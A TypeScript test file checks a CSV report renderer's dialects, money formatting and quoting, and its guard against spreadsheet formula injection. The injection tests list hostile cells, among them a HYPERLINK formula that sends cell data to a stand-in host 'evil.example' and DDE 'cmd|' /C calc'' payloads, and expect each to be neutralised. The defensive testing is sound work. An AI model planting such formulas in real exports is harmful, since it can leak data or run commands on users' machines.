import { renderCsv, formatCentsPlain, type Cell, type ReportColumn } from '@picineiros/api/client';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';

const columns: ReportColumn[] = [
  { header: 'Data', type: 'date' },
  { header: 'Descrição; "nota"', type: 'text' },
  { header: 'Valor', type: 'cents' },
  { header: 'Qtd.', type: 'integer' },
];

const rows: Cell[][] = [
  ['2026-11-29', 'Ação; "urgente"\r\nsegunda linha, com vírgula', -123_456, 3],
  ['2000-01-01', 'Estorno', -5, -1],
  ['2100-12-31', null, 900_719_925_474_099, 0],
  ['2026-02-03', ' espaços e ç ã õ é ', 0, null],
];

async function bytesOf(chunks: AsyncIterable<Buffer>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const chunk of chunks) parts.push(chunk);
  return Buffer.concat(parts);
}

async function* pagesOf(...pages: Cell[][][]): AsyncGenerator<Cell[][]> {
  for (const page of pages) yield await Promise.resolve(page);
}

describe('report CSV', () => {
  it('writes integer cents exactly, negative and large', () => {
    expect(formatCentsPlain(-123_456, ',')).toBe('-1234,56');
    expect(formatCentsPlain(-5, '.')).toBe('-0.05');
    expect(formatCentsPlain(Number.MAX_SAFE_INTEGER, ',')).toBe('90071992547409,91');
  });

  it('pt-BR Excel dialect: BOM, `;`, decimal comma, dd/MM/yyyy, reads back through a CSV parser', async () => {
    const bytes = await bytesOf(renderCsv(columns, pagesOf(rows.slice(0, 1), [], rows.slice(1)), 'excel'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parse(bytes, { delimiter: ';', bom: true })).toEqual([
      ['Data', 'Descrição; "nota"', 'Valor', 'Qtd.'],
      ['29/11/2026', 'Ação; "urgente"\r\nsegunda linha, com vírgula', '-1234,56', '3'],
      ['01/01/2000', 'Estorno', '-0,05', '-1'],
      ['31/12/2100', '', '9007199254740,99', '0'],
      ['03/02/2026', ' espaços e ç ã õ é ', '0,00', ''],
    ]);
  });

  it('RFC 4180 dialect: `,`, decimal point, CRLF, no BOM', async () => {
    const bytes = await bytesOf(renderCsv(columns, pagesOf(rows), 'rfc4180'));
    expect(bytes[0]).toBe('D'.charCodeAt(0));
    expect(bytes.toString('utf8').split('\r\n')[0]).toBe('Data,"Descrição; ""nota""",Valor,Qtd.');
    expect(parse(bytes, { delimiter: ',', record_delimiter: '\r\n' })).toEqual([
      ['Data', 'Descrição; "nota"', 'Valor', 'Qtd.'],
      ['29/11/2026', 'Ação; "urgente"\r\nsegunda linha, com vírgula', '-1234.56', '3'],
      ['01/01/2000', 'Estorno', '-0.05', '-1'],
      ['31/12/2100', '', '9007199254740.99', '0'],
      ['03/02/2026', ' espaços e ç ã õ é ', '0.00', ''],
    ]);
  });
});

describe('report CSV against formula injection', () => {
  const textColumns: ReportColumn[] = [
    { header: 'Cliente', type: 'text' },
    { header: 'Valor', type: 'cents' },
    { header: 'Qtd.', type: 'integer' },
  ];

  it('prefixes text cells a spreadsheet would run with a single quote; numbers stay numbers', async () => {
    const hostile: Cell[][] = [
      ['=HYPERLINK("http://evil.example/?"&A1;"Clique")', -1234, -2],
      ['+55 11 98765-4321', 100, 1],
      ["-2+3+cmd|' /C calc'!A0", 0, 0],
      ["@SUM(1+1)*cmd|' /C calc'!A0", 5, 0],
      ['\t=1+1', 1, 0],
      ['\r=1+1', 1, 0],
      ['Maria = José', -99, -7],
      ["'já citado", 1, 0],
    ];
    const bytes = await bytesOf(renderCsv(textColumns, pagesOf(hostile), 'excel'));
    const records: string[][] = parse(bytes, { delimiter: ';', bom: true });
    expect(records.slice(1)).toEqual([
      ['\'=HYPERLINK("http://evil.example/?"&A1;"Clique")', '-12,34', '-2'],
      ["'+55 11 98765-4321", '1,00', '1'],
      ["'-2+3+cmd|' /C calc'!A0", '0,00', '0'],
      ["'@SUM(1+1)*cmd|' /C calc'!A0", '0,05', '0'],
      ["'\t=1+1", '0,01', '0'],
      ["'\r=1+1", '0,01', '0'],
      ['Maria = José', '-0,99', '-7'],
      ["'já citado", '0,01', '0'],
    ]);
    // No field of a hostile row starts with a trigger once read back, except the typed negative numbers.
    for (const record of records.slice(1)) expect(record[0]).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps the guard in the RFC 4180 dialect too', async () => {
    const bytes = await bytesOf(renderCsv(textColumns, pagesOf([['=1+1', -1, -1]]), 'rfc4180'));
    expect(bytes.toString('utf8').split('\r\n')[1]).toBe("'=1+1,-0.01,-1");
  });
});
